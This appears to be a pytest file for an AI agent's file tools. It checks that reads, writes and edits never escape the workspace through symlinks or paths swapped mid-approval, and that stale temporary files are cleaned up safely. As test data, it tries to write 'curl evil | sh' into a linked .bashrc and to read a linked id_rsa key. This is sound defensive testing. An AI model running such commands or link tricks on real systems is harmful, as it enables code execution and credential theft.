"""The landing rule (`presenters.landing`) on real files and links: a path named inside the workspace never
reads or writes a file outside it, whenever the link that leads out appeared; links that stay inside, and
paths named outside (the user was asked about them), are followed. And the temporary files of a killed writer
are recognised and removed, never a live writer's."""

from __future__ import annotations

import os
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from presenters import build_tools
from presenters.disk import Landing, open_directory, remove_stale_temps
from presenters.fs_access import atomic_write
from registry_core import (
    Agent,
    ApprovalAnswer,
    Ask,
    ToolError,
    ToolExecution,
    ToolExecutionInput,
    ToolRegistry,
)

from .conftest import Session, text_of


def _outside(session: Session, name: str, text: str) -> Path:
    target = session.cwd.parent / "outside" / name
    target.parent.mkdir(exist_ok=True)
    target.write_text(text)
    return target


async def test_a_write_or_edit_named_inside_never_lands_outside_through_a_link(session: Session) -> None:
    bashrc = _outside(session, ".bashrc", "export SAFE=1\n")
    (session.cwd / "notes.txt").symlink_to(bashrc)

    write = await session.run("write", {"file_path": "notes.txt", "content": "curl evil | sh\n"})
    edit = await session.run("edit", {"file_path": "notes.txt", "old_string": "SAFE", "new_string": "PWNED"})

    for result in (write, edit):
        assert result.error is not None and result.error.code == "OUTSIDE_WORKSPACE", text_of(result)
        assert str(bashrc) in result.error.message  # the model can name the real file (and be asked)
    assert bashrc.read_text() == "export SAFE=1\n"
    assert (session.cwd / "notes.txt").is_symlink()


async def test_a_read_named_inside_never_shows_a_file_outside_through_a_link(session: Session) -> None:
    secret = _outside(session, "id_rsa", "PRIVATE KEY\n")
    (session.cwd / "keys").mkdir()
    (session.cwd / "keys" / "deploy").symlink_to(secret)
    (session.cwd / "linked").symlink_to(secret.parent, target_is_directory=True)

    direct = await session.run("read", {"file_path": "keys/deploy"})
    through_dir = await session.run("read", {"file_path": "linked/id_rsa"})

    for result in (direct, through_dir):
        assert result.error is not None and result.error.code == "OUTSIDE_WORKSPACE"
        assert "PRIVATE KEY" not in text_of(result)


async def test_links_inside_the_workspace_and_paths_named_outside_are_followed(session: Session) -> None:
    (session.cwd / "AGENTS.md").write_text("rules\n")
    (session.cwd / "CLAUDE.md").symlink_to("AGENTS.md")
    elsewhere = _outside(session, "shared.txt", "shared\n")
    (session.cwd.parent / "outside" / "alias.txt").symlink_to(elsewhere)

    inside = await session.run("edit", {"file_path": "CLAUDE.md", "old_string": "rules", "new_string": "law"})
    outside = await session.run("write", {"file_path": str(elsewhere.parent / "alias.txt"), "content": "x\n"})

    assert inside.error is None and outside.error is None
    assert (session.cwd / "AGENTS.md").read_text() == "law\n"
    assert elsewhere.read_text() == "x\n"


class PreviewingApprovals:
    """A host's approval service: it awaits the tool's preview (as a host does before asking), lets the
    test act while the user "thinks", then allows."""

    def __init__(self, meanwhile: Callable[[], None]) -> None:
        self.meanwhile = meanwhile
        self.tools = {tool.name: tool for tool in build_tools()}

    async def request_approval(self, execution: ToolExecution, reason: str | None) -> ApprovalAnswer:
        definition = self.tools[execution.name]
        assert definition.preview_call is not None and definition.parse_args is not None
        await definition.preview_call(definition.parse_args(execution.arguments), execution)
        self.meanwhile()
        return ApprovalAnswer("allowed-once")


def _asking_registry(meanwhile: Callable[[], None] = lambda: None) -> ToolRegistry:
    registry = ToolRegistry(approval=PreviewingApprovals(meanwhile))
    for tool in build_tools():
        registry.register(tool)

    async def ask(execution: ToolExecution, next_: Any) -> Ask:
        return Ask(reason="asking about every call")

    registry.on_pre_execute(ask)
    return registry


async def test_an_approved_call_lands_on_the_file_the_question_was_about(tmp_path: Path) -> None:
    work, outside = tmp_path / "work", tmp_path / "outside"
    work.mkdir()
    outside.mkdir()
    (outside / "data.csv").write_text("a,b\n")
    (work / "data").symlink_to(outside, target_is_directory=True)  # judged outside, and approved
    (work / "notes.txt").write_text("notes\n")
    (work / "other.txt").write_text("other\n")
    agent = Agent(id="s", cwd=str(work), roots=(str(work),))

    approved = await _asking_registry().execute(
        ToolExecutionInput("c1", "read", {"file_path": "data/data.csv"}, agent=agent)
    )

    def swap() -> None:  # while the user approves the write of notes.txt, it becomes a link elsewhere
        (work / "swap").symlink_to(work / "other.txt")
        os.replace(work / "swap", work / "notes.txt")

    swapped = await _asking_registry(swap).execute(
        ToolExecutionInput("c2", "write", {"file_path": "notes.txt", "content": "approved\n"}, agent=agent)
    )

    created = await _asking_registry().execute(
        ToolExecutionInput("c3", "write", {"file_path": "new/dir/f.txt", "content": "x\n"}, agent=agent)
    )

    assert approved.error is None and "a,b" in text_of(approved)
    assert created.error is None and (work / "new" / "dir" / "f.txt").read_text() == "x\n"
    assert swapped.error is not None and swapped.error.code == "PATH_CHANGED"
    assert (work / "other.txt").read_text() == "other\n"


def test_a_directory_swapped_for_a_link_after_the_path_was_resolved_is_not_written_through(
    tmp_path: Path,
) -> None:
    # atomic_write resolves the path, then opens its directory: an attacker swaps the directory for a
    # link to somewhere outside in between. The opened descriptor says where it really is.
    root, outside = tmp_path / "ws", tmp_path / "outside"
    (root / "sub").mkdir(parents=True)
    outside.mkdir()
    resolved = os.path.realpath(root / "sub")
    (root / "sub").rmdir()
    (root / "sub").symlink_to(outside, target_is_directory=True)

    with pytest.raises(ToolError) as caught:
        open_directory(resolved, str(root / "sub" / "f.txt"), "f.txt", Landing((str(root),)), "sub/f.txt")

    assert caught.value.code == "OUTSIDE_WORKSPACE"
    assert list(outside.iterdir()) == []


def test_missing_directories_are_not_created_through_a_link_planted_after_resolution(tmp_path: Path) -> None:
    root, outside = tmp_path / "ws", tmp_path / "outside"
    root.mkdir()
    outside.mkdir()
    resolved = os.path.realpath(root / "a" / "b")  # `a` does not exist yet
    (root / "a").symlink_to(outside, target_is_directory=True)

    with pytest.raises(ToolError) as caught:
        open_directory(resolved, str(root / "a" / "b" / "f.txt"), "f.txt", Landing((str(root),)), "a/b/f.txt")

    assert caught.value.code == "OUTSIDE_WORKSPACE"
    assert list(outside.iterdir()) == []  # not even the directory `b`


def test_a_write_creates_missing_directories_inside_the_workspace(tmp_path: Path) -> None:
    root = tmp_path / "ws"
    root.mkdir()
    atomic_write(str(root / "a" / "b" / "f.txt"), b"x\n", mode=None, signature=None, display="a/b/f.txt",
                 landing=Landing((str(root),)))  # fmt: skip
    assert (root / "a" / "b" / "f.txt").read_bytes() == b"x\n"
    assert [p.name for p in (root / "a" / "b").iterdir()] == ["f.txt"]  # no temporary file left


def test_temporary_files_of_dead_writers_are_removed_and_live_ones_kept(tmp_path: Path) -> None:
    dead = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True,
                          text=True, check=True).stdout.strip()  # fmt: skip
    deep = tmp_path / "src" / "pkg"
    deep.mkdir(parents=True)
    stale = deep / f".app.py.acp-bridge-tmp-{dead}-0123abcd.tmp"
    live = deep / f".app.py.acp-bridge-tmp-{os.getpid()}-4567cdef.tmp"
    foreign = deep / ".app.py.ab12cd.tmp"  # someone else's naming: never ours to remove
    skipped = tmp_path / "node_modules" / f".x.acp-bridge-tmp-{dead}-89abcdef.tmp"
    skipped.parent.mkdir()
    for path in (stale, live, foreign, skipped):
        path.write_text("partial")

    assert remove_stale_temps(str(tmp_path)) == 1

    assert not stale.exists()
    assert live.exists() and foreign.exists() and skipped.exists()


def test_the_stale_temp_scan_is_bounded(tmp_path: Path) -> None:
    for i in range(50):
        (tmp_path / f"d{i:02}").mkdir()
    dead = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True,
                          text=True, check=True).stdout.strip()  # fmt: skip
    far = tmp_path / "d49" / f".f.acp-bridge-tmp-{dead}-0123abcd.tmp"
    far.write_text("partial")

    assert remove_stale_temps(str(tmp_path), max_entries=10) == 0
    assert far.exists()
    assert remove_stale_temps(str(tmp_path)) == 1
